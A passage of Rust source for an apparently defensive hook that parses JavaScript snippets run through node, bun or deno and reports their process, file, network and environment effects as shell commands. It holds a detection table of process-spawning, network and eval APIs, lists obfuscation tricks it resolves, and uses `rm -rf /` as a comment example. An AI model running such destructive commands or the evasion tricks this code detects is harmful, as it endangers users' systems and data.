//! JavaScript and TypeScript code, parsed (`node -e CODE`, `bun -e CODE`, `deno eval CODE`, a
//! heredoc or pipe feeding `node`): what its calls do, as the commands the walk reads. This is
//! the one file that names oxc's crates (`oxc_parser` and its AST, pinned): a newer parser is a
//! change here.
//!
//! The parse gives names, not spellings. `require`, `import` (static and dynamic, `node:`
//! prefixed or not), destructuring (`const {execSync: x} = require("child_process")`), member
//! access by a literal (`cp["exec" + "Sync"]`), `.call`/`.apply`/`Reflect.apply` and the
//! global object (`globalThis.process`) resolve to qualified names, looked up in [`APIS`], one
//! row per API. A name bound once (`const cmd = "rm -rf /"`) holds its value wherever it is
//! read; one bound again, a parameter, a loop's, a catch's, or an array the code changes holds a
//! value known only at run time, and so does every name where the code can bind any (`with`,
//! `eval` of a value known only at run time). String literals are their text, template literals,
//! `+`, `concat`, `join`, `String.fromCharCode`, `atob`, `Buffer.from(…, "base64")` and
//! `path.join` build what they can and leave the rest known only at run time.
//!
//! Each effect is the command a shell would run for it, as in `python.rs`: a process is its line
//! or argv, a delete `rm [-r]`, a write `tee`, a rename `mv`, a copy `cp`, a link `ln -s`, a
//! mode change `chmod`, a read `cat`, a request `curl URL`, an environment read `printenv NAME`.
//! What the reading cannot account for is `unread`: a callee chosen at run time (`require(x)`,
//! `import(x)`, `globalThis[x]`, `cp[x]`, `eval(x)`, `new Function(x)`, `vm.runInThisContext(x)`,
//! `process.binding`, an API handed on as a value), a change to a target known only at run time,
//! code that does not parse as JavaScript or TypeScript, and code past the bounds checked before
//! parsing (its size, bracket depth, and the operators and nested statements one expression or
//! block chains), which keep the parser's and the walk's recursion inside any host's stack.

use super::interpreters::{literal_path, text_path, Run, MAX_BRACKETS, MAX_CODE, RUN_TIME_COMMAND};
use super::{unread, RUN_TIME_INPUT};
use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, AssignmentTarget, BinaryOperator, BindingPattern, CallExpression, ChainElement,
    Expression, ImportDeclarationSpecifier, MemberExpression, ModuleExportName, ObjectPropertyKind, Program,
    SimpleAssignmentTarget, SourceType, TemplateLiteral, UnaryOperator, VariableDeclarator,
};
use oxc_ast_visit::{walk, Visit};
use oxc_parser::{ParseOptions, Parser};
use oxc_syntax::scope::ScopeFlags;
use rustc_hash::{FxHashMap, FxHashSet};
use std::panic::AssertUnwindSafe;

/// Operators and operator keywords (`typeof`, `new`, `await`, …) one expression chains, each a
/// level of the syntax tree, counted over the brackets open: more is a reading bound.
const MAX_CHAIN: usize = 256;
/// Statements nested without braces (`if (a) if (b) …`, `else if` chains, labels) in one block:
/// more is a reading bound.
const MAX_STATEMENTS: usize = 128;
/// `eval("eval('…')")`: literal code read inside literal code this deep, then unread.
const MAX_EVAL: usize = 4;
/// A name's value is followed through this many other names and nested values.
const MAX_VALUE_DEPTH: usize = 16;

/// The commands, and what is unread, of `code`.
pub(super) fn runs(code: &str) -> Vec<Run> {
    runs_at(code, 0)
}

fn runs_at(code: &str, depth: usize) -> Vec<Run> {
    if let Err(bound) = within_bounds(code) {
        return vec![Run::Unread(unread::BOUND, format!("node {bound}"))];
    }
    // A parser panic must not take the hook down: it is code that does not parse. (WebAssembly
    // is built to abort on a panic, so there the bounds above are what keep the parser whole.)
    let read = std::panic::catch_unwind(AssertUnwindSafe(|| {
        let allocator = Allocator::default();
        let options =
            ParseOptions { allow_return_outside_function: true, preserve_parens: false, ..Default::default() };
        // `node -e` is a CommonJS script unless it imports; `--input-type=module` and Deno make
        // it a module (top-level `await`); Bun, Deno and Node's type stripping take TypeScript.
        let mut first_error = None;
        for source_type in [SourceType::unambiguous(), SourceType::mjs(), SourceType::ts()] {
            let parsed = Parser::new(&allocator, code, source_type).with_options(options).parse();
            if parsed.panicked || !parsed.diagnostics.is_empty() {
                if first_error.is_none() {
                    first_error = Some(parsed.diagnostics.first().map(|error| error.to_string()).unwrap_or_default());
                }
                continue;
            }
            return Ok(read_program(&parsed.program, depth));
        }
        Err(first_error.unwrap_or_default())
    }));
    match read {
        Ok(Ok(runs)) => runs,
        Ok(Err(error)) => vec![Run::Unread(unread::UNPARSED, format!("node ({error})"))],
        Err(_) => vec![Run::Unread(unread::UNPARSED, "node (the parser failed)".to_string())],
    }
}

fn read_program(program: &Program<'_>, depth: usize) -> Vec<Run> {
    let mut names = Names::default();
    names.visit_program(program);
    // `require("shelljs/global")` makes shelljs's commands globals (`rm("-rf", P)`). Any mention
    // turns this on: reading a name as shelljs's where it is not errs toward reading more.
    let shelljs_global = program.source_text.contains("shelljs/global");
    let mut reader = Reader {
        depth,
        counts: names.counts,
        many: names.many,
        dynamic: names.dynamic,
        shelljs_global,
        ..Reader::default()
    };
    reader.visit_program(program);
    reader.out
}

/// Checks `code` against the bounds before it is parsed, with a scan that does not recurse:
/// strings and comments are skipped, template literals' `${…}` are brackets; `Err` names the
/// bound it passes.
fn within_bounds(code: &str) -> Result<(), String> {
    if code.len() > MAX_CODE {
        return Err(format!("code longer than {} KiB", MAX_CODE / 1024));
    }
    // Per open bracket: the operators chained since its last comma or semicolon, the statements
    // nested in it, and whether it is a template literal's `${`.
    struct Level {
        chain: usize,
        statements: usize,
        template: bool,
    }
    let mut levels = vec![Level { chain: 0, statements: 0, template: false }];
    let (mut chain, mut statements) = (0usize, 0usize);
    let bytes = code.as_bytes();
    let mut at = 0;
    // Inside a template literal's text (after a backtick or a `}` closing its `${`).
    let mut in_template = false;
    while let Some(&byte) = bytes.get(at) {
        if in_template {
            match byte {
                b'\\' => at += 1,
                b'`' => in_template = false,
                b'$' if bytes.get(at + 1) == Some(&b'{') => {
                    at += 1;
                    levels.push(Level { chain: 0, statements: 0, template: true });
                    in_template = false;
                }
                _ => {}
            }
            at += 1;
            if levels.len() > MAX_BRACKETS {
                return Err(format!("brackets nested more than {MAX_BRACKETS} deep"));
            }
            continue;
        }
        let open = levels.len();
        let level = levels.last_mut().ok_or("brackets unbalanced")?;
        match byte {
            b'\'' | b'"' => {
                at += 1;
                while let Some(&inner) = bytes.get(at) {
                    match inner {
                        b'\\' => at += 1,
                        _ if inner == byte || inner == b'\n' => break,
                        _ => {}
                    }
                    at += 1;
                }
            }
            b'`' => in_template = true,
            b'/' if bytes.get(at + 1) == Some(&b'/') => {
                while bytes.get(at).is_some_and(|&inner| inner != b'\n') {
                    at += 1;
                }
            }
            b'/' if bytes.get(at + 1) == Some(&b'*') => {
                at += 2;
                while bytes.get(at).is_some() && !(bytes.get(at) == Some(&b'*') && bytes.get(at + 1) == Some(&b'/')) {
                    at += 1;
                }
                at += 1;
            }
            b'(' | b'[' | b'{' => {
                level.chain += 1;
                chain += 1;
                levels.push(Level { chain: 0, statements: 0, template: false });
                if levels.len() > MAX_BRACKETS {
                    return Err(format!("brackets nested more than {MAX_BRACKETS} deep"));
                }
            }
            b')' | b']' | b'}' if open > 1 => {
                if let Some(closed) = levels.pop() {
                    chain -= closed.chain;
                    statements -= closed.statements;
                    in_template = closed.template;
                }
            }
            b',' | b';' => {
                chain -= level.chain;
                level.chain = 0;
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'$' => {
                let start = at;
                while bytes.get(at + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'$') {
                    at += 1;
                }
                match code.get(start..=at).unwrap_or_default() {
                    "new" | "typeof" | "void" | "delete" | "await" | "yield" | "extends" | "in" | "instanceof" => {
                        level.chain += 1;
                        chain += 1;
                    }
                    "if" | "else" | "while" | "for" | "do" | "with" => {
                        level.statements += 1;
                        statements += 1;
                    }
                    _ => {}
                }
            }
            b'+' | b'-' | b'*' | b'%' | b'!' | b'~' | b'&' | b'|' | b'^' | b'<' | b'>' | b'?' | b':' | b'.' | b'='
            | b'/' => {
                level.chain += 1;
                chain += 1;
            }
            _ => {}
        }
        if chain > MAX_CHAIN {
            return Err(format!("expression chaining more than {MAX_CHAIN} operators"));
        }
        if statements > MAX_STATEMENTS {
            return Err(format!("statements nested more than {MAX_STATEMENTS} deep"));
        }
        at += 1;
    }
    Ok(())
}

/// A value, as far as the code spells it.
#[derive(Debug, Clone, PartialEq)]
enum Value {
    /// A string's text (JavaScript does not expand `~` in it).
    Text(String),
    /// A path, spelled for the path model (`~` is the home directory).
    Path(String),
    /// An array.
    List(Vec<Value>),
    /// An object's properties with names the code spells.
    Object(Vec<(String, Value)>),
    /// A number (a mode).
    Number(i64),
    /// A regular expression (whose `exec` runs nothing).
    Regex,
    /// A function the code spells (a callback).
    Function,
    /// A file handle whose path the code spells or not (`Bun.file(P)`): its methods read,
    /// write or delete that file.
    File(Option<String>),
    Bool(bool),
    /// Known only at run time.
    Unknown,
}

impl Value {
    /// The value as a path: a string's text (a leading `~` is a file of that name), a path as
    /// it is, anything else known only at run time.
    fn path(&self) -> Option<String> {
        match self {
            Value::Text(text) => text_path(text),
            Value::Path(path) => Some(path.clone()),
            Value::File(path) => path.clone(),
            _ => None,
        }
    }

    /// The value as text for a shell line or a word.
    fn text(&self) -> String {
        match self {
            Value::Text(text) | Value::Path(text) => text.clone(),
            Value::Number(number) => number.to_string(),
            Value::Bool(value) => value.to_string(),
            Value::List(items) => items.iter().map(Value::text).collect::<Vec<_>>().join(","),
            Value::Object(_) | Value::Regex | Value::Function | Value::File(_) | Value::Unknown => {
                RUN_TIME_INPUT.to_string()
            }
        }
    }

    /// An object's property.
    fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(properties) => properties.iter().rev().find(|(name, _)| name == key).map(|(_, value)| value),
            _ => None,
        }
    }

    /// Whether an option may be set: its value is anything but `false`, `0` or empty where the
    /// object spells it, and, in options the reading cannot see whole (a value known only at
    /// run time, an object with a spread of one), it may be.
    fn is_set(&self, key: &str) -> bool {
        match self.get(key) {
            Some(Value::Bool(false) | Value::Number(0)) => false,
            Some(Value::Text(text)) => !text.is_empty(),
            Some(_) => true,
            None => self.partial(),
        }
    }

    /// Options the reading cannot see whole: known only at run time, or spread from such.
    fn partial(&self) -> bool {
        match self {
            Value::Object(properties) => properties.iter().any(|(name, _)| name == SPREAD),
            other => *other == Value::Unknown,
        }
    }
}

/// The property an object's spread of a value known only at run time leaves (`{...opts}`):
/// any option may be set.
const SPREAD: &str = "...";

/// What an API does with its arguments (by position).
#[derive(Debug, Clone, Copy)]
enum Api {
    /// Runs a shell line (`execSync(LINE)`).
    Shell(usize),
    /// Runs a program with an array of arguments and options after them; `{shell: true}` makes
    /// them one line (`spawn(PROGRAM, [ARGS], {shell})`, `execFileSync`, `new Deno.Command`
    /// with its `args`).
    ProgramAndArgs,
    /// Runs an argv array, or an object's `cmd` array (`Bun.spawn([…])`, `Deno.run({cmd})`).
    Argv(usize),
    /// Runs a Node script (`fork(PATH, ARGS)`).
    Fork,
    /// A template literal as a shell line (zx's and Bun's `` $`…` ``).
    Tag,
    /// Deletes a file or directory: always recursively, or when its options say
    /// `recursive: true`.
    Delete {
        recursive: bool,
    },
    /// Writes a file.
    Write(usize),
    /// Opens a file for writing when its flags say so (`openSync(P, "w")`).
    Open,
    /// Moves, copies or links the file at the first argument onto the second.
    Move,
    Copy,
    Link,
    /// Changes a file's mode (`chmodSync(P, 0o777)`) or owner.
    Chmod,
    Chown,
    Mkdir,
    Read,
    /// Changes the working directory: later relative paths start there.
    Chdir,
    /// Reaches a URL or host over the network: a string argument, or an options object's
    /// `url`, `hostname` or `host`.
    Network,
    /// Reads an environment variable by name (`Deno.env.get(NAME)`), or the whole environment.
    Env,
    EnvAll,
    /// Runs code in the language: a literal is read as JavaScript; anything else is unread.
    /// (`new Function(ARGS…, BODY)`: the last argument.)
    Code {
        last: bool,
    },
    /// `new Worker(CODE, {eval: true})` runs code; without `eval`, a script file.
    Worker,
    /// Chooses a module by a name (`require(NAME)`): a literal is a module, anything else
    /// unread.
    Callee,
    /// Runs what no reading can follow (`process.binding`, `process.dlopen`): always unread.
    Opaque,
}

/// The APIs that reach the system, one row each, by qualified name (a module's members as its
/// documentation names them; `fs/promises`, `fs.promises`, `fs-extra` and `graceful-fs` are
/// `fs`, and each `…Sync` form is the same row).
static APIS: &[(&str, Api)] = &[
    // Processes.
    ("child_process.exec", Api::Shell(0)),
    ("child_process.execFile", Api::ProgramAndArgs),
    ("child_process.spawn", Api::ProgramAndArgs),
    ("child_process.fork", Api::Fork),
    ("cross-spawn", Api::ProgramAndArgs),
    ("cross-spawn.sync", Api::ProgramAndArgs),
    ("execa", Api::ProgramAndArgs),
    ("execa.execa", Api::ProgramAndArgs),
    ("execa.execaCommand", Api::Shell(0)),
    ("execa.execaNode", Api::Fork),
    ("execa.$", Api::Tag),
    ("zx.$", Api::Tag),
    ("$", Api::Tag),
    ("Bun.$", Api::Tag),
    ("bun.$", Api::Tag),
    ("shelljs.exec", Api::Shell(0)),
    ("Bun.spawn", Api::Argv(0)),
    ("Deno.Command", Api::ProgramAndArgs),
    ("Deno.run", Api::Argv(0)),
    ("process.chdir", Api::Chdir),
    ("Deno.chdir", Api::Chdir),
    ("process.binding", Api::Opaque),
    ("process._linkedBinding", Api::Opaque),
    ("process.dlopen", Api::Opaque),
    ("module._load", Api::Callee),
    ("Module._load", Api::Callee),
    // Deletes.
    ("fs.rm", Api::Delete { recursive: false }),
    ("fs.rmdir", Api::Delete { recursive: false }),
    ("fs.unlink", Api::Delete { recursive: false }),
    ("fs.remove", Api::Delete { recursive: true }),
    ("fs.emptyDir", Api::Delete { recursive: true }),
    ("fs.emptydir", Api::Delete { recursive: true }),
    ("Deno.remove", Api::Delete { recursive: false }),
    ("rimraf", Api::Delete { recursive: true }),
    ("rimraf.rimraf", Api::Delete { recursive: true }),
    ("rimraf.sync", Api::Delete { recursive: true }),
    ("rimraf.native", Api::Delete { recursive: true }),
    ("rimraf.manual", Api::Delete { recursive: true }),
    ("del", Api::Delete { recursive: true }),
    ("del.deleteAsync", Api::Delete { recursive: true }),
    ("del.deleteSync", Api::Delete { recursive: true }),
    // shelljs's commands take a command's words (`shelljs.rm("-rf", P)`, `mv("-f", A, B)`).
    ("shelljs.rm", Api::Argv(usize::MAX)),
    ("shelljs.mv", Api::Argv(usize::MAX)),
    ("shelljs.cp", Api::Argv(usize::MAX)),
    ("shelljs.chmod", Api::Argv(usize::MAX)),
    ("shelljs.ln", Api::Argv(usize::MAX)),
    ("shelljs.sed", Api::Argv(usize::MAX)),
    ("shelljs.touch", Api::Argv(usize::MAX)),
    ("shelljs.mkdir", Api::Argv(usize::MAX)),
    ("shelljs.cat", Api::Argv(usize::MAX)),
    ("shelljs.head", Api::Argv(usize::MAX)),
    ("shelljs.tail", Api::Argv(usize::MAX)),
    // Writes, moves, copies, links, modes.
    ("fs.writeFile", Api::Write(0)),
    ("fs.appendFile", Api::Write(0)),
    ("fs.createWriteStream", Api::Write(0)),
    ("fs.WriteStream", Api::Write(0)),
    ("fs.ensureFile", Api::Write(0)),
    ("fs.writeJSON", Api::Write(0)),
    ("fs.outputJSON", Api::Write(0)),
    ("fs.truncate", Api::Write(0)),
    ("fs.outputFile", Api::Write(0)),
    ("fs.outputJson", Api::Write(0)),
    ("fs.writeJson", Api::Write(0)),
    ("fs.open", Api::Open),
    ("Deno.writeTextFile", Api::Write(0)),
    ("Deno.writeFile", Api::Write(0)),
    ("Deno.truncate", Api::Write(0)),
    ("Deno.open", Api::Open),
    ("Deno.create", Api::Write(0)),
    ("Bun.write", Api::Write(0)),
    ("fs.rename", Api::Move),
    ("fs.move", Api::Move),
    ("Deno.rename", Api::Move),
    ("fs.copyFile", Api::Copy),
    ("fs.cp", Api::Copy),
    ("fs.copy", Api::Copy),
    ("Deno.copyFile", Api::Copy),
    ("fs.symlink", Api::Link),
    ("fs.link", Api::Link),
    ("fs.ensureSymlink", Api::Link),
    ("Deno.symlink", Api::Link),
    ("Deno.link", Api::Link),
    ("fs.chmod", Api::Chmod),
    ("fs.lchmod", Api::Chmod),
    ("Deno.chmod", Api::Chmod),
    ("fs.chown", Api::Chown),
    ("fs.lchown", Api::Chown),
    ("Deno.chown", Api::Chown),
    ("fs.mkdir", Api::Mkdir),
    ("fs.mkdirp", Api::Mkdir),
    ("fs.ensureDir", Api::Mkdir),
    ("Deno.mkdir", Api::Mkdir),
    ("fs.readFile", Api::Read),
    ("fs.createReadStream", Api::Read),
    ("fs.ReadStream", Api::Read),
    ("fs.readJson", Api::Read),
    ("Deno.readTextFile", Api::Read),
    ("Deno.readFile", Api::Read),
    // The network.
    ("fetch", Api::Network),
    ("node-fetch", Api::Network),
    ("http.get", Api::Network),
    ("http.request", Api::Network),
    ("https.get", Api::Network),
    ("https.request", Api::Network),
    ("http2.connect", Api::Network),
    ("net.connect", Api::Network),
    ("net.createConnection", Api::Network),
    ("tls.connect", Api::Network),
    ("dgram.createSocket", Api::Network),
    ("undici.request", Api::Network),
    ("undici.fetch", Api::Network),
    ("axios", Api::Network),
    ("axios.get", Api::Network),
    ("axios.post", Api::Network),
    ("axios.put", Api::Network),
    ("axios.patch", Api::Network),
    ("axios.delete", Api::Network),
    ("axios.request", Api::Network),
    ("got", Api::Network),
    ("got.get", Api::Network),
    ("got.post", Api::Network),
    ("WebSocket", Api::Network),
    ("EventSource", Api::Network),
    ("Bun.connect", Api::Network),
    ("Deno.connect", Api::Network),
    ("Deno.connectTls", Api::Network),
    // The environment.
    ("Deno.env.get", Api::Env),
    ("Deno.env.toObject", Api::EnvAll),
    // Code, and callees chosen at run time.
    ("eval", Api::Code { last: false }),
    ("Function", Api::Code { last: true }),
    ("vm.runInThisContext", Api::Code { last: false }),
    ("vm.runInNewContext", Api::Code { last: false }),
    ("vm.runInContext", Api::Code { last: false }),
    ("vm.Script", Api::Code { last: false }),
    ("vm.compileFunction", Api::Code { last: false }),
    ("vm.SourceTextModule", Api::Code { last: false }),
    ("worker_threads.Worker", Api::Worker),
    ("require", Api::Callee),
    ("module.require", Api::Callee),
    ("process.getBuiltinModule", Api::Callee),
    ("process.mainModule.require", Api::Callee),
];

/// Names a snippet uses without binding them that are the runtime's own.
const GLOBAL_OBJECTS: &[&str] = &["globalThis", "global", "window", "self"];

/// Method names only process and file APIs have: called on an object the reading cannot name
/// (`cp.execSync(…)` where `cp` is a parameter), they are read as the `child_process` or `fs`
/// API of that name.
const DISTINCTIVE: &[(&str, &str)] = &[
    ("execSync", "child_process.exec"),
    ("spawn", "child_process.spawn"),
    ("execFileSync", "child_process.execFile"),
    ("execFile", "child_process.execFile"),
    ("spawnSync", "child_process.spawn"),
    ("rmSync", "fs.rm"),
    ("rmdirSync", "fs.rmdir"),
    ("unlinkSync", "fs.unlink"),
    ("writeFileSync", "fs.writeFile"),
    ("appendFileSync", "fs.appendFile"),
    ("renameSync", "fs.rename"),
    ("copyFileSync", "fs.copyFile"),
    ("cpSync", "fs.cp"),
    ("symlinkSync", "fs.symlink"),
    ("chmodSync", "fs.chmod"),
    ("removeSync", "fs.remove"),
    ("emptyDirSync", "fs.emptyDir"),
    ("createWriteStream", "fs.createWriteStream"),
    ("writeTextFile", "Deno.writeTextFile"),
    ("writeTextFileSync", "Deno.writeTextFile"),
];

/// A qualified name as the API table spells it: `node:` dropped, `fs/promises`, `fs.promises`,
/// `fs-extra` and `graceful-fs` as `fs`, a `Sync` form as its API, a module's `default` export
/// as the module, and the global object's members (`globalThis.process`) as themselves.
fn canonical(name: &str) -> String {
    let mut name = name.strip_prefix("node:").unwrap_or(name).to_string();
    for part in [".default", ".promises"] {
        if name.contains(part) {
            name = name.replace(part, "");
        }
    }
    while let Some(rest) =
        GLOBAL_OBJECTS.iter().find_map(|global| name.strip_prefix(global).and_then(|rest| rest.strip_prefix('.')))
    {
        name = rest.to_string();
    }
    for (alias, module) in [("fs/promises", "fs"), ("fs-extra", "fs"), ("graceful-fs", "fs"), ("zx/core", "zx")] {
        if let Some(rest) = name.strip_prefix(alias).filter(|rest| rest.is_empty() || rest.starts_with('.')) {
            name = format!("{module}{rest}");
        }
    }
    if api(&name).is_none() {
        if let Some(stripped) = name.strip_suffix("Sync").filter(|stripped| api(stripped).is_some()) {
            return stripped.to_string();
        }
    }
    name
}

/// The API row of a canonical qualified name.
fn api(qualified: &str) -> Option<Api> {
    static BY_NAME: std::sync::OnceLock<FxHashMap<&'static str, Api>> = std::sync::OnceLock::new();
    BY_NAME.get_or_init(|| APIS.iter().copied().collect()).get(qualified).copied()
}

/// What a name was bound to, once, by the time the reading reaches a use of it.
#[derive(Debug, Clone)]
struct Bound {
    /// The qualified name it stands for (`const cp = require("child_process")`).
    qualified: Option<String>,
    /// Its value.
    value: Value,
}

/// The first pass: how many times each name is bound, which are bound in ways that leave their
/// value known only at run time, and whether the code can bind any name.
#[derive(Default)]
struct Names<'a> {
    counts: FxHashMap<&'a str, usize>,
    many: FxHashSet<&'a str>,
    dynamic: bool,
}

/// Methods that change the array or object they are called on.
const MUTATORS: &[&str] =
    &["push", "unshift", "splice", "pop", "shift", "reverse", "sort", "fill", "copyWithin", "set", "assign"];

impl<'a> Names<'a> {
    fn pattern(&mut self, pattern: &BindingPattern<'a>) {
        for identifier in pattern.get_binding_identifiers() {
            self.many.insert(identifier.name.as_str());
        }
    }
}

impl<'a> Visit<'a> for Names<'a> {
    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        match (&it.id, &it.init) {
            (BindingPattern::BindingIdentifier(_) | BindingPattern::ObjectPattern(_), Some(_)) => {
                for identifier in it.id.get_binding_identifiers() {
                    *self.counts.entry(identifier.name.as_str()).or_default() += 1;
                }
            }
            (pattern, _) => self.pattern(pattern),
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_formal_parameter(&mut self, it: &oxc_ast::ast::FormalParameter<'a>) {
        self.pattern(&it.pattern);
        walk::walk_formal_parameter(self, it);
    }

    fn visit_catch_parameter(&mut self, it: &oxc_ast::ast::CatchParameter<'a>) {
        self.pattern(&it.pattern);
        walk::walk_catch_parameter(self, it);
    }

    fn visit_function(&mut self, it: &oxc_ast::ast::Function<'a>, flags: ScopeFlags) {
        if let Some(id) = &it.id {
            self.many.insert(id.name.as_str());
        }
        walk::walk_function(self, it, flags);
    }

    fn visit_class(&mut self, it: &oxc_ast::ast::Class<'a>) {
        if let Some(id) = &it.id {
            self.many.insert(id.name.as_str());
        }
        walk::walk_class(self, it);
    }

    fn visit_for_statement_left(&mut self, it: &oxc_ast::ast::ForStatementLeft<'a>) {
        if let oxc_ast::ast::ForStatementLeft::VariableDeclaration(declaration) = it {
            for declarator in &declaration.declarations {
                self.pattern(&declarator.id);
            }
        }
        walk::walk_for_statement_left(self, it);
    }

    fn visit_assignment_target(&mut self, it: &AssignmentTarget<'a>) {
        match it {
            AssignmentTarget::AssignmentTargetIdentifier(identifier) => {
                self.many.insert(identifier.name.as_str());
            }
            // `x[0] = …`, `x.shell = true`: the array or object `x` holds changes.
            target => {
                if let Some(member) = target.as_member_expression() {
                    if let Expression::Identifier(object) = member.object().get_inner_expression() {
                        self.many.insert(object.name.as_str());
                    }
                }
            }
        }
        walk::walk_assignment_target(self, it);
    }

    fn visit_simple_assignment_target(&mut self, it: &SimpleAssignmentTarget<'a>) {
        if let SimpleAssignmentTarget::AssignmentTargetIdentifier(identifier) = it {
            self.many.insert(identifier.name.as_str());
        }
        walk::walk_simple_assignment_target(self, it);
    }

    fn visit_assignment_target_property_identifier(
        &mut self,
        it: &oxc_ast::ast::AssignmentTargetPropertyIdentifier<'a>,
    ) {
        self.many.insert(it.binding.name.as_str());
        walk::walk_assignment_target_property_identifier(self, it);
    }

    fn visit_with_statement(&mut self, it: &oxc_ast::ast::WithStatement<'a>) {
        self.dynamic = true;
        walk::walk_with_statement(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        if let Some(member) = it.callee.get_inner_expression().as_member_expression() {
            if let (Expression::Identifier(object), Some(method)) =
                (member.object().get_inner_expression(), member.static_property_name())
            {
                if MUTATORS.contains(&method) {
                    self.many.insert(object.name.as_str());
                }
                // `Object.assign(x, …)`, `Reflect.set(x, …)`: the first argument changes.
                if matches!(object.name.as_str(), "Object" | "Reflect")
                    && matches!(method, "assign" | "set" | "defineProperty")
                {
                    if let Some(Expression::Identifier(target)) =
                        it.arguments.first().and_then(Argument::as_expression).map(Expression::get_inner_expression)
                    {
                        self.many.insert(target.name.as_str());
                    }
                }
            }
        }
        // Direct `eval` of a value known only at run time can bind any name.
        if it.callee.is_specific_id("eval")
            && !matches!(it.arguments.first().and_then(Argument::as_expression), Some(Expression::StringLiteral(_)))
        {
            self.dynamic = true;
        }
        walk::walk_call_expression(self, it);
    }
}

#[derive(Default)]
struct Reader<'a> {
    /// How deep this code is inside literal code an `eval` runs.
    depth: usize,
    counts: FxHashMap<&'a str, usize>,
    many: FxHashSet<&'a str>,
    dynamic: bool,
    /// Whether the code loads `shelljs/global`, whose commands are then globals.
    shelljs_global: bool,
    /// The names bound once, with what to, as the reading has met them.
    bound: FxHashMap<&'a str, Bound>,
    /// The commands and reasons found, in source order.
    out: Vec<Run>,
}

impl<'a> Reader<'a> {
    /// Whether `name` holds one value the reading can follow.
    fn once(&self, name: &str) -> bool {
        !self.dynamic && !self.many.contains(name) && self.counts.get(name).copied().unwrap_or(0) == 1
    }

    /// Whether `name` is bound anywhere in the snippet (so it is not the runtime's own).
    fn local(&self, name: &str) -> bool {
        self.many.contains(name) || self.counts.contains_key(name)
    }

    /// The qualified name an expression stands for (`cp.execSync` with `const cp =
    /// require("child_process")` is `child_process.execSync`).
    fn qualified(&self, expr: &Expression<'a>, depth: usize) -> Option<String> {
        if depth > MAX_VALUE_DEPTH {
            return None;
        }
        match expr.get_inner_expression() {
            Expression::Identifier(identifier) => {
                let name = identifier.name.as_str();
                match self.bound.get(name) {
                    Some(bound) if self.once(name) => bound.qualified.clone(),
                    _ if self.local(name) => None,
                    // A name the snippet does not bind: the runtime's own (`process`, `require`),
                    // or shelljs's where the code loads `shelljs/global`.
                    _ if self.shelljs_global && api(&format!("shelljs.{name}")).is_some() => {
                        Some(format!("shelljs.{name}"))
                    }
                    _ => Some(name.to_string()),
                }
            }
            Expression::StaticMemberExpression(member) => {
                let base = self.qualified(&member.object, depth + 1)?;
                Some(format!("{base}.{}", member.property.name.as_str()))
            }
            Expression::ComputedMemberExpression(member) => {
                let base = self.qualified(&member.object, depth + 1)?;
                match self.value(&member.expression, depth + 1) {
                    Value::Text(property) => Some(format!("{base}.{property}")),
                    _ => None,
                }
            }
            Expression::ChainExpression(chain) => match &chain.expression {
                ChainElement::CallExpression(call) => self.call_qualified(call, depth),
                element => element.as_member_expression().and_then(|member| self.member_qualified(member, depth)),
            },
            Expression::CallExpression(call) => self.call_qualified(call, depth),
            Expression::AwaitExpression(awaited) => self.qualified(&awaited.argument, depth + 1),
            Expression::ImportExpression(import) => match self.value(&import.source, depth + 1) {
                Value::Text(module) => Some(module),
                _ => None,
            },
            // `(0, cp.execSync)(…)`: the last expression.
            Expression::SequenceExpression(sequence) => {
                sequence.expressions.last().and_then(|last| self.qualified(last, depth + 1))
            }
            _ => None,
        }
    }

    fn member_qualified(&self, member: &MemberExpression<'a>, depth: usize) -> Option<String> {
        let base = self.qualified(member.object(), depth + 1)?;
        match member {
            MemberExpression::StaticMemberExpression(member) => {
                Some(format!("{base}.{}", member.property.name.as_str()))
            }
            MemberExpression::ComputedMemberExpression(member) => match self.value(&member.expression, depth + 1) {
                Value::Text(property) => Some(format!("{base}.{property}")),
                _ => None,
            },
            MemberExpression::PrivateFieldExpression(_) => None,
        }
    }

    /// The qualified name a call returns: a module for `require(NAME)`, `module.require(NAME)`
    /// and `createRequire(…)(NAME)`.
    fn call_qualified(&self, call: &CallExpression<'a>, depth: usize) -> Option<String> {
        let callee = canonical(&self.qualified(&call.callee, depth + 1)?);
        // `require.call(null, NAME)`: the loader, its first argument the receiver.
        let (callee, name) = match callee.strip_suffix(".call") {
            Some(loader) => (loader.to_string(), call.arguments.get(1)),
            None => (callee.clone(), call.arguments.first()),
        };
        let loader = callee.strip_prefix("module.").unwrap_or(&callee);
        match loader {
            // (`Module._load`, `require("module")._load`, `module.constructor._load`.)
            "require"
            | "process.mainModule.require"
            | "process.getBuiltinModule"
            | "_load"
            | "Module._load"
            | "constructor._load"
            | "require.main.require"
            | "prototype.require"
            | "Module.prototype.require" => match self.value(name?.as_expression()?, depth + 1) {
                Value::Text(module) => Some(module),
                _ => None,
            },
            "createRequire" => Some("require".to_string()),
            // `Reflect.get(cp, "exec")`: the member.
            "Reflect.get" => {
                let object = self.qualified(call.arguments.first()?.as_expression()?, depth + 1)?;
                match self.value(call.arguments.get(1)?.as_expression()?, depth + 1) {
                    Value::Text(member) => Some(format!("{object}.{member}")),
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// What an expression's value is, as far as the code spells it.
    fn value(&self, expr: &Expression<'a>, depth: usize) -> Value {
        if depth > MAX_VALUE_DEPTH {
            return Value::Unknown;
        }
        match expr.get_inner_expression() {
            Expression::StringLiteral(string) => Value::Text(string.value.as_str().to_string()),
            Expression::TemplateLiteral(template) => self.template(template, depth),
            Expression::NumericLiteral(number) => match number.value.fract() == 0.0 && number.value.abs() < 1e15 {
                #[allow(clippy::cast_possible_truncation)]
                true => Value::Number(number.value as i64),
                false => Value::Unknown,
            },
            Expression::BooleanLiteral(boolean) => Value::Bool(boolean.value),
            Expression::RegExpLiteral(_) => Value::Regex,
            Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => Value::Function,
            // `new RegExp(…)`; `new URL("data:…")` is its text.
            Expression::NewExpression(new) => match self.qualified(&new.callee, depth + 1).as_deref() {
                Some("RegExp") => Value::Regex,
                Some("URL") if new.arguments.len() == 1 => new
                    .arguments
                    .first()
                    .and_then(Argument::as_expression)
                    .map_or(Value::Unknown, |url| self.value(url, depth + 1)),
